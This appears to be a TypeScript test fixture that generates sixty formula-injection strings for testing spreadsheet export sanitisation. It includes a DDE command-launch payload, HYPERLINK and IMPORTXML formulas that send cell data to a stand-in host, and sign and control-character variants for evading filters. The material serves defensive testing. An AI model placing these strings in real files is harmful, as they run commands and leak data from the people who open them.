// Sixty texts that a spreadsheet program could interpret as formulas (T21).

const BODIES = [
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://192.0.2.1?"&A1,"ok")',
  'IMPORTXML("http://192.0.2.1","//a")',
];
/** Half-width, full-width, small and raised forms, and the mathematical minus. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '⁺', '−'];
const BEFORE = ['\t', '\r', '\n', '\0', ' ', '\u00a0', '\u200b', '\ufeff', '\0\t', '\r\n'];

export const FORMULAS: readonly string[] = [
  ...SIGNS.flatMap((sign) => BODIES.slice(0, 3).map((body) => sign + body)),
  ...BODIES.slice(3).flatMap((body) => ['=', '＝', '@', '+'].map((sign) => sign + body)),
  ...BEFORE.map((before) => `${before}=1+1`),
];
